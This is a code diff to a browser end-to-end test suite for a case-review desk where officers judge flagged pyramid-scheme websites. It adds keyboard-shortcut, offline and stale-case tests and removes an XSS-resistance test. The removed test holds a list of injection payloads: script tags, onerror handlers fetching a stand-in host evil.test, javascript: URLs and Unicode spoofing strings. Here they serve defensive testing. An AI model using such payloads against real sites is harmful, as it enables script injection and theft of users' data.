@@ -1,6 +1,6 @@
 /** The desk as officers meet it: in a real browser, on a real store. */
 import type { Browser, BrowserContext, Page } from 'playwright';
-import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest';
 import type { Desk } from '../../desk/server.ts';
 import { chromiumPath, openBrowser } from './browser.ts';
 import { DOT, hire, openHouse, PASSWORD, see, signal } from './house.ts';
@@ -55,13 +55,13 @@ describe.skipIf(!hasBrowser)(`an officer at the desk${where}`, async () => {
     await page.waitForURL(/\/cases/);
   };
 
-  const pyramid = (host: string) =>
+  const pyramid = (host: string, score = 0.97) =>
     see(house, 'pyramid', [
       {
         url: `https://${host}/`,
         title: 'Клуб «Табыс»',
         text: 'Доход 2 % в день.\nПриглашайте друзей.',
-        score: 0.97,
+        score,
         signals: [
           signal('yield', 'доход 2 % в день', 2.5, 'ARRFR-1'),
           signal('referral', 'Приглашайте друзей', 1.5),
@@ -71,90 +71,140 @@ describe.skipIf(!hasBrowser)(`an officer at the desk${where}`, async () => {
       { url: `https://${host}/about`, title: 'О нас', text: '', score: 0.6, signals: [], picture: null },
     ]);
 
-  test('logs in, sees why a case is there, and confirms it; another approves it', async () => {
-    const { id } = await pyramid('tabys-klub.test');
+  const shown = (page: Page, id: string) => page.getByText(id, { exact: true }).first().waitFor();
+
+  test('claims, decides and undoes by keys alone, and another approves by keys alone, while nothing is asked elsewhere', async () => {
+    const { id } = await pyramid('tabys-klub.test', 0.99);
+    const { id: second } = await pyramid('next-one.test', 0.98);
+    misdeeds.length = 0;
     const first = await newPage();
     await logIn(first, 'aigerim');
-    await first.getByRole('link', { name: 'tabys-klub.test' }).click();
+    await first.locator('.queue .row').first().waitFor();
+    await first.keyboard.press('w');
+    await shown(first, id);
     expect(await first.locator('mark').allInnerTexts()).toEqual(['Доход 2 % в день1', 'Приглашайте друзей2']);
     expect(await first.getByText('критерий ARRFR-1').count()).toBe(1);
-    await first.getByLabel('Нарушение подтверждаю').check();
-    expect(await first.getByText('Наружу ничего не уйдёт').isVisible()).toBe(true);
-    await first.getByLabel('Почему, своими словами').fill('Доход обещан за приглашённых.');
-    await first.getByRole('button', { name: 'Записать решение' }).click();
-    expect(await first.getByRole('status').textContent()).toContain('Теперь нужен второй сотрудник');
-    expect(await first.getByText('одобрить должен другой сотрудник').isVisible()).toBe(true);
-    expect(await first.getByRole('button', { name: 'Одобрить передачу' }).count()).toBe(0);
 
-    const second = await newPage();
-    await logIn(second, 'daniyar');
-    await second.getByRole('link', { name: /Ждут второго/ }).click();
-    await second.getByRole('link', { name: 'tabys-klub.test' }).click();
-    expect(await second.getByText('Доход обещан за приглашённых.').first().isVisible()).toBe(true);
-    await second.getByRole('button', { name: 'Одобрить передачу' }).click();
-    expect(await second.getByRole('status').textContent()).toContain('Одобрено');
-    expect((await house.stores.cases.get(id)).state).toMatchObject({
-      is: 'approved',
-      by: 'aigerim',
-      approvedBy: 'daniyar',
-    });
+    await first.keyboard.press('b');
+    await first.keyboard.press('2');
+    expect(await first.getByLabel('Почему, своими словами').inputValue()).toContain(
+      'взносов новых участников',
+    );
+    await first.keyboard.press('Enter');
+    await shown(first, second);
+    expect(first.url()).toContain(second);
+    await vi.waitFor(async () => expect((await house.stores.cases.get(id)).state.is).toBe('confirmed'));
+    await first.keyboard.press('u');
+    await shown(first, id);
+    await vi.waitFor(async () => expect((await house.stores.cases.get(id)).state.is).toBe('open'));
+
+    await first.keyboard.press('b');
+    await first.keyboard.press('g');
+    await first.keyboard.press('t');
+    await first.keyboard.type('Доход обещан за приглашённых.');
+    await first.keyboard.press('Control+Enter');
+    await vi.waitFor(async () =>
+      expect((await house.stores.cases.get(id)).state).toMatchObject({
+        is: 'confirmed',
+        ground: 'KZ-CC-217-1',
+      }),
+    );
+
+    const other = await newPage();
+    await logIn(other, 'daniyar');
+    await other.goto(`${desk.url}/cases?queue=confirmed`);
+    await other.locator('.queue .row').first().waitFor();
+    await other.keyboard.press('w');
+    await shown(other, id);
+    expect(await other.getByText('Доход обещан за приглашённых.').first().isVisible()).toBe(true);
+    await other.keyboard.press('a');
+    await vi.waitFor(async () =>
+      expect((await house.stores.cases.get(id)).state).toMatchObject({
+        is: 'approved',
+        by: 'aigerim',
+        approvedBy: 'daniyar',
+      }),
+    );
+    const kinds = (await house.stores.cases.acts(id)).map(({ kind }) => kind);
+    expect(kinds).toEqual(['opened', 'confirmed', 'undone', 'confirmed', 'approved']);
+    expect(misdeeds).toEqual([]);
   });
 
-  test('is refused as the second pair of eyes on a decision of her own, even by a form of her making', async () => {
-    const { id } = await pyramid('own-decision.test');
+  test('works with a Russian keyboard: keys are places, whatever they type', async () => {
+    const { id } = await pyramid('layout.test', 0.5);
     const page = await newPage();
     await logIn(page, 'aigerim');
     await page.goto(`${desk.url}/cases/${id}`);
-    await page.getByLabel('Нарушение подтверждаю').check();
-    await page.getByLabel('Почему, своими словами').fill('Доход обещан за приглашённых.');
-    await page.getByRole('button', { name: 'Записать решение' }).click();
-    await page.evaluate((action) => {
-      const form = document.createElement('form');
-      form.method = 'post';
-      form.action = action;
-      document.body.append(form);
-      form.submit();
-    }, `/cases/${id}/approval`);
-    await page.waitForURL(/error=same_officer/);
-    expect(await page.getByRole('alert').textContent()).toContain('одобрить должен другой сотрудник');
-    expect((await house.stores.cases.get(id)).state.is).toBe('confirmed');
+    await shown(page, id);
+    await page.evaluate(() =>
+      document.body.dispatchEvent(new KeyboardEvent('keydown', { key: 'д', code: 'KeyL', bubbles: true })),
+    );
+    expect(await page.getByRole('form', { name: 'Нарушения нет' }).isVisible()).toBe(true);
   });
 
-  test('dismisses by keys alone', async () => {
-    const { id } = await pyramid('by-keys.test');
+  test('shows what the keyboard does, and switches it off', async () => {
+    const page = await newPage();
+    await logIn(page, 'aigerim');
+    await page.getByRole('heading', { level: 1 }).waitFor();
+    await page.keyboard.press('?');
+    const help = page.getByRole('dialog', { name: 'Клавиши' });
+    expect(await help.getByText('Работать', { exact: true }).isVisible()).toBe(true);
+    await help.getByLabel('Работать клавишами').uncheck();
+    await page.keyboard.press('Escape');
+    await page.keyboard.press('g');
+    await page.keyboard.press('b');
+    expect(new URL(page.url()).pathname).toBe('/cases');
+  });
+
+  test('is not offered to approve a decision of her own', async () => {
+    const { id } = await pyramid('own-decision.test', 0.5);
+    const confirm = { verdict: 'confirm', by: 'aigerim', ground: 'KZ-CC-217', reason: 'Выплаты.' } as const;
+    await house.stores.cases.decide(id, confirm, house.clock.now());
     const page = await newPage();
     await logIn(page, 'aigerim');
     await page.goto(`${desk.url}/cases/${id}`);
-    await page.getByLabel('Нарушение подтверждаю').focus();
-    await page.keyboard.press('ArrowDown');
-    expect(await page.getByLabel('Основание').isVisible()).toBe(false);
-    await page.keyboard.press('Tab');
-    await page.keyboard.type('Школьный проект о пирамидах.');
-    await page.keyboard.press('Tab');
-    await page.keyboard.press('Enter');
-    await page.waitForURL(/done=dismissed/);
-    expect((await house.stores.cases.get(id)).state).toMatchObject({ is: 'dismissed', by: 'aigerim' });
+    await shown(page, id);
+    await page.getByRole('button', { name: 'Отозвать решение' }).waitFor();
+    expect(await page.getByRole('button', { name: 'Одобрить передачу' }).count()).toBe(0);
   });
 
-  test('is shown the case anew when the machine saw the site again meanwhile', async () => {
-    const it = await pyramid('moving.test');
+  test('is told when the case changed while the page was open, and nothing is decided', async () => {
+    const it = await pyramid('moving.test', 0.5);
     const page = await newPage();
     await logIn(page, 'aigerim');
     await page.goto(`${desk.url}/cases/${it.id}`);
+    await shown(page, it.id);
     const seen = { ...it.seen, label: 'phishing' as const };
-    await house.stores.cases.sight(
-      it.subject,
-      { label: 'phishing', score: 0.99, seen, reasons: [] },
-      [],
-      house.clock.now(),
-    );
-    await page.getByLabel('Нарушения нет').check();
-    await page.getByLabel('Почему, своими словами').fill('Ничего нет.');
-    await page.getByRole('button', { name: 'Записать решение' }).click();
-    expect(await page.getByRole('alert').textContent()).toContain(
-      'Дело изменилось, пока страница была открыта',
-    );
+    const sighting = { label: 'phishing', score: 0.99, seen, reasons: [] } as const;
+    await house.stores.cases.sight(it.subject, sighting, [], house.clock.now());
+    await page.keyboard.press('l');
+    await page.keyboard.press('1');
+    await page.keyboard.press('Enter');
+    await page.getByRole('alert').getByText('Дело изменилось, пока страница была открыта').waitFor();
     expect((await house.stores.cases.get(it.id)).state.is).toBe('open');
+  });
+
+  test('loses no decision with the network: it is kept, told as unsent, and sent once when the desk is back', async () => {
+    const { id } = await pyramid('offline.test', 0.5);
+    const page = await newPage();
+    await logIn(page, 'aigerim');
+    await page.goto(`${desk.url}/cases/${id}`);
+    await shown(page, id);
+    await page.context().setOffline(true);
+    await page.keyboard.press('l');
+    await page.keyboard.press('1');
+    await page.keyboard.press('Enter');
+    await page.getByText('1 решение ещё не отправлено').waitFor();
+    const kept = await page.evaluate(() => localStorage.getItem('kuzet.outbox.aigerim') ?? '');
+    expect(kept).toContain(id);
+    expect(kept).not.toContain('offline.test');
+    expect((await house.stores.cases.get(id)).state.is).toBe('open');
+    await page.context().setOffline(false);
+    await vi.waitFor(async () => expect((await house.stores.cases.get(id)).state.is).toBe('dismissed'), {
+      timeout: 60_000,
+    });
+    expect((await house.stores.cases.acts(id)).map(({ kind }) => kind)).toEqual(['opened', 'dismissed']);
+    await page.waitForFunction(() => localStorage.getItem('kuzet.outbox.aigerim') === '[]');
   });
 
   test('reads the desk in three languages and keeps the one chosen', async () => {
@@ -184,73 +234,6 @@ describe.skipIf(!hasBrowser)(`an officer at the desk${where}`, async () => {
     expect(await invited.locator('.who').textContent()).toContain('Самал Т.');
   });
 
-  const HOSTILE = [
-    '<script>top.ran=1;alert(1)</script>',
-    '"><img src=x onerror="top.ran=1;fetch(\'https://evil.test/beacon\')">',
-    "'><svg onload=alert(1)>",
-    '</textarea></title></style><script src="https://evil.test/x.js"></script>',
-    '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
-    '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
-    '<link rel=stylesheet href=https://evil.test/x.css><style>@import "https://evil.test/y.css"</style>',
-    '<base href="https://evil.test/"><form action="https://evil.test/"><button>',
-    '<a href="javascript:top.ran=1">click</a>',
-    'javascript:top.ran=1',
-    '\u202egnp.exe\u2066 \u200bhidden',
-    '#{7*7}{{7*7}}<%= 7*7 %>&lt;b&gt;',
-    '\u0000\ud800 broken',
-    'https://evil.test/ www.evil.test',
-  ];
-
-  test('meets hostile words as words: nothing of them runs, loads, links or hides', async () => {
-    const signals = HOSTILE.map((text, at) => ({ ...signal(text, text, 3 - at / 10, text), id: text }));
-    const it = await see(house, 'pyramid', [
-      {
-        url: `https://hostile.test/?q=${encodeURIComponent(HOSTILE[1]!)}&r='"><script>alert(1)</script>`,
-        title: HOSTILE.join(' '),
-        text: HOSTILE.join('\n'),
-        score: 0.95,
-        signals,
-        picture: new TextEncoder().encode('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
-        lang: '"><script>alert(1)</script>',
-        hops: [
-          {
-            url: 'https://hostile.test/"><script>alert(1)</script>',
-            status: 302,
-            location: 'javascript:alert(1)',
-          },
-          { url: 'https://hostile.test/', status: 200, location: null },
-        ],
-      },
-      { url: 'https://hostile.test/b', title: HOSTILE[0]!, text: '', score: 0.9, signals: [], picture: null },
-    ]);
-    misdeeds.length = 0;
-    const page = await newPage();
-    await logIn(page, 'aigerim');
-    await page.goto(`${desk.url}/cases?search=${encodeURIComponent('"><script>alert(1)</script>')}`);
-    await page.goto(`${desk.url}/cases`);
-    expect(await page.getByRole('link', { name: 'hostile.test' }).count()).toBe(1);
-    await page.goto(`${desk.url}/cases/${it.id}`);
-    await page.getByLabel('Нарушение подтверждаю').check();
-    await page.getByLabel('Почему, своими словами').fill(HOSTILE.slice(0, 11).join(' '));
-    await page.getByRole('button', { name: 'Записать решение' }).click();
-    await page.waitForURL(/done=confirmed/);
-    await page.waitForLoadState('networkidle');
-
-    expect(await page.evaluate(() => 'ran' in window)).toBe(false);
-    const links = await page
-      .locator('a[href]')
-      .evaluateAll((all) => all.map((a) => (a as HTMLAnchorElement).href));
-    expect(links.filter((href) => !href.startsWith(`${desk.url}/`))).toEqual([]);
-    const foreign =
-      'iframe, object, embed, base, form[action^="http"], meta[http-equiv], script:not([src^="/assets/"]), style, [style], [onerror], [onload], [onclick]';
-    expect(await page.locator(foreign).count()).toBe(0);
-    const text = await page.locator('.text').textContent();
-    expect(text).toContain('<script>top.ran=1;alert(1)</script>');
-    expect(text).toContain('⟨U+202E⟩gnp.exe⟨U+2066⟩ ⟨U+200B⟩hidden');
-    expect(await page.locator('body').textContent()).not.toMatch(/\u202e|\u200b/);
-    expect(misdeeds.filter((it) => !it.includes('Failed to load resource'))).toEqual([]);
-  });
-
   test.each(['light', 'dark'] as const)(
     'needs no sideways scrolling in 320 pixels, which is also a window at zoom, in the %s theme',
     async (colorScheme) => {
@@ -259,15 +242,19 @@ describe.skipIf(!hasBrowser)(`an officer at the desk${where}`, async () => {
       );
       const page = await newPage({ viewport: { width: 320, height: 640 }, colorScheme });
       await logIn(page, 'boss');
-      for (const path of [
+      const paths = [
         '/cases',
         `/cases/${id}`,
         '/batches',
+        '/appeals',
         '/people',
         '/nowhere',
         '/cases?search=none',
-      ]) {
+      ];
+      for (const path of paths) {
         await page.goto(desk.url + path);
+        await page.getByRole('heading', { level: 1 }).waitFor();
+        await page.waitForLoadState('networkidle');
         const overflow = await page.evaluate(() => document.documentElement.scrollWidth - innerWidth);
         expect([path, overflow]).toEqual([path, 0]);
       }
@@ -280,6 +267,7 @@ describe.skipIf(!hasBrowser)(`an officer at the desk${where}`, async () => {
     await logIn(page, 'aigerim');
     for (const path of ['/cases', `/cases/${id}`]) {
       await page.goto(desk.url + path);
+      await page.getByRole('heading', { level: 1 }).waitFor();
       for (let n = 0; n < 25; n += 1) {
         await page.keyboard.press('Tab');
         const focused = await page.evaluate(() => {
